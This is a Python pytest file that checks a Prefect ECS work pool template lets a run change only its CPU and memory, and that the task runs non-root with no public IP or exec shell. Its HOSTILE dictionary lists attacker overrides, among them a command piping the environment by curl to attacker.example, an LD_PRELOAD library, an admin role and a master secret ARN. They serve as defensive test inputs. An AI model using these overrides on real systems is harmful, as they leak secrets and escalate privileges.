"""The ECS pool's job template: what runs, as whom and where is fixed; a run chooses its size."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any, cast
from uuid import uuid4

import pytest
from prefect.client.schemas.objects import FlowRun
from prefect.utilities.templating import find_placeholders
from prefect_aws.workers.ecs_worker import ECSJobConfiguration, ECSVariables, ECSWorker

from contracts.errors import ConfigurationError
from deployments.ecs import __main__ as command
from deployments.ecs import job_template
from deployments.ecs.job_template import base_job_template
from deployments.ecs.pool import EcsPool, read_pool
from deployments.localaws.ecs.fargate_sizes import is_fargate_size

HERE = command.POOL_FILE.parent
DIGEST = "sha256:" + "a" * 64
POOL = read_pool(command.POOL_FILE)
TEMPLATE = base_job_template(POOL)

# What somebody who may start a run would set to run something else, somewhere else, as somebody else.
HOSTILE: dict[str, Any] = {
    "image": "attacker.example/image:latest",
    "command": "sh -c 'env | curl -d @- https://attacker.example'",
    "env": {"PREFECT_API_URL": "https://attacker.example/api", "LD_PRELOAD": "/tmp/x.so"},
    "env.PYTHONPATH": "/tmp",
    "task_role_arn": "arn:aws:iam::123456789012:role/admin",
    "execution_role_arn": "arn:aws:iam::123456789012:role/admin",
    "task_definition_arn": "arn:aws:ecs:eu-west-1:123456789012:task-definition/attacker:1",
    "task_definition": {"containerDefinitions": [{"name": "prefect", "image": "attacker.example/image"}]},
    "task_definition.containerDefinitions": [],
    "task_run_request": {"enableExecuteCommand": True},
    "task_run_request.enableExecuteCommand": True,
    "network_configuration": {"subnets": ["subnet-1"], "assignPublicIp": "ENABLED"},
    "vpc_id": "vpc-1",
    "cluster": "other",
    "family": "other",
    "launch_type": "EC2",
    "capacity_provider_strategy": [{"capacityProvider": "x", "weight": 1, "base": 1}],
    "container_name": "other",
    "configure_cloudwatch_logs": True,
    "cloudwatch_logs_options": {"awslogs-group": "other"},
    "cloudwatch_logs_prefix": "other",
    "prefect_api_key_secret_arn": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:shop/master",
    "prefect_api_auth_string_secret_arn": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:shop/master",
    "aws_credentials": {"aws_access_key_id": "x", "aws_secret_access_key": "x"},
    "auto_deregister_task_definition": True,
    "match_latest_revision_in_family": False,
    "labels": {"prefect.io/flow-run-id": "other"},
    "name": "other",
}


def what_runs(variables: dict[str, Any]) -> dict[str, Any]:
    """What Prefect's ECS worker would register and run for a run with these job variables."""
    flow_run = FlowRun(id=uuid4(), flow_id=uuid4(), name="run")

    async def resolve() -> ECSJobConfiguration:
        class NoApi:
            """Nothing in the template is to be looked up."""

            _loop = asyncio.get_running_loop()

        resolved: Any = await ECSJobConfiguration.from_template_and_values(
            TEMPLATE, variables, client=cast(Any, NoApi())
        )
        return cast(ECSJobConfiguration, resolved)

    configuration = asyncio.run(resolve())
    configuration.prepare_for_flow_run(flow_run)
    worker = ECSWorker(work_pool_name="refresh", name="worker")
    definition = worker._prepare_task_definition(configuration, region="eu-west-1", flow_run=flow_run)
    worker._validate_task_definition(definition, configuration)
    request = worker._prepare_task_run_request(configuration, definition, "arn:definition", True)
    fixed = configuration.model_dump(exclude={"env", "labels", "name", "task_definition", "task_run_request"})
    for item in request["tags"]:
        item["value"] = item["value"].replace(str(flow_run.id), "RUN")
    (container,) = request["overrides"]["containerOverrides"]
    for item in container["environment"]:
        item["value"] = item["value"].replace(str(flow_run.id), "RUN").replace(str(flow_run.flow_id), "FLOW")
    found = {"definition": definition, "request": request, "fixed": fixed}
    plain: dict[str, Any] = json.loads(json.dumps(found, default=str))
    return plain


@pytest.fixture(scope="module")
def as_intended() -> dict[str, Any]:
    return what_runs({})


def test_what_is_overridden_here_is_every_variable_that_prefect_s_own_template_has() -> None:
    assert HOSTILE.keys() >= set(ECSVariables.model_fields) - {"cpu", "memory"}


@pytest.mark.parametrize("name", HOSTILE)
def test_overriding_anything_but_the_size_changes_nothing(name: str, as_intended: dict[str, Any]) -> None:
    assert what_runs({name: HOSTILE[name]}) == as_intended


def test_nor_does_overriding_everything_at_once(as_intended: dict[str, Any]) -> None:
    assert what_runs(HOSTILE) == as_intended


def test_a_run_may_choose_its_cpu_and_memory() -> None:
    runs = what_runs({"cpu": 4096, "memory": 16384})
    (container,) = runs["definition"]["containerDefinitions"]
    assert (runs["definition"]["cpu"], runs["definition"]["memory"]) == ("4096", "16384")
    assert (container["cpu"], container["memory"]) == (4096, 16384)
    assert (runs["request"]["overrides"]["cpu"], runs["request"]["overrides"]["memory"]) == ("4096", "16384")


def test_the_sizes_on_offer_are_fargate_s_and_so_is_the_one_by_default() -> None:
    for cpu in job_template.CPU_UNITS:
        assert any(is_fargate_size(str(cpu), str(memory)) for memory in job_template.MEMORY_MIB), cpu
    for memory in job_template.MEMORY_MIB:
        assert any(is_fargate_size(str(cpu), str(memory)) for cpu in job_template.CPU_UNITS), memory
    assert is_fargate_size(str(job_template.DEFAULT_CPU_UNITS), str(job_template.DEFAULT_MEMORY_MIB))


def test_the_template_has_no_other_placeholder_and_no_env_which_prefect_would_merge_into() -> None:
    assert {found.name for found in find_placeholders(TEMPLATE)} == {"cpu", "memory"}
    assert TEMPLATE["variables"]["properties"].keys() == {"cpu", "memory"}
    assert TEMPLATE["variables"]["additionalProperties"] is False
    assert "env" not in TEMPLATE["job_configuration"]


def test_the_container_may_write_to_its_scratch_volume_alone_and_is_not_root(
    as_intended: dict[str, Any],
) -> None:
    (container,) = as_intended["definition"]["containerDefinitions"]
    assert container["readonlyRootFilesystem"] is True
    assert not container["user"].startswith(("0", "root"))
    assert [mount["containerPath"] for mount in container["mountPoints"]] == ["/scratch"]
    assert not container.get("privileged")


def test_a_run_that_is_stopped_has_two_minutes_and_is_scheduled_again(as_intended: dict[str, Any]) -> None:
    (container,) = as_intended["definition"]["containerDefinitions"]
    environment = {item["name"]: item["value"] for item in container["environment"]}
    assert container["stopTimeout"] == 120
    assert environment["PREFECT_FLOW_RUN_EXECUTE_SIGTERM_BEHAVIOR"] == "reschedule"
    assert environment["PREFECT_FLOWS_HEARTBEAT_FREQUENCY"] == "30"


def test_the_task_has_no_public_address_and_no_shell_for_anybody(as_intended: dict[str, Any]) -> None:
    request = as_intended["request"]
    assert request["networkConfiguration"]["awsvpcConfiguration"]["assignPublicIp"] == "DISABLED"
    assert request["enableExecuteCommand"] is False


def test_the_server_s_password_comes_as_a_secret_and_never_in_the_run_s_environment(
    as_intended: dict[str, Any],
) -> None:
    (container,) = as_intended["definition"]["containerDefinitions"]
    assert container["secrets"] == [
        {"name": "PREFECT_API_AUTH_STRING", "valueFrom": POOL.prefect_api_auth_string_secret_arn}
    ]
    (override,) = as_intended["request"]["overrides"]["containerOverrides"]
    assert "PREFECT_API_AUTH_STRING" not in {item["name"] for item in override["environment"]}


@pytest.mark.parametrize(
    ("changed", "named"),
    [
        ({"image": "example.com/refresh:latest"}, "image"),
        ({"environment": {"A": "{{ prefect.blocks.secret.x }}"}}, "placeholder"),
        ({"subnet_ids": []}, "subnet_ids"),
        ({"security_group_ids": []}, "security_group_ids"),
        ({"assign_public_ip": True}, "assign_public_ip"),
    ],
)
def test_a_pool_that_would_not_be_safe_is_refused_by_name(
    changed: dict[str, Any], named: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "pool.json"
    file.write_text(json.dumps({**POOL.model_dump(mode="json"), **changed}))
    with pytest.raises(ConfigurationError, match=named):
        read_pool(file)
    assert command.main([str(file)]) == 1
    assert named in capsys.readouterr().err


def test_the_template_in_the_checkout_is_the_one_of_its_pool(capsys: pytest.CaptureFixture[str]) -> None:
    """Else: python -m deployments.ecs > deployments/ecs/base-job-template.json"""
    assert command.main([]) == 0
    assert (HERE / "base-job-template.json").read_text() == capsys.readouterr().out


def test_more_disk_is_asked_for_only_where_the_pool_says_so() -> None:
    larger = EcsPool.model_validate({**POOL.model_dump(), "ephemeral_storage_gib": 100})
    definition = base_job_template(larger)["job_configuration"]["task_definition"]
    assert definition["ephemeralStorage"] == {"sizeInGiB": 100}
    assert "ephemeralStorage" not in TEMPLATE["job_configuration"]["task_definition"]
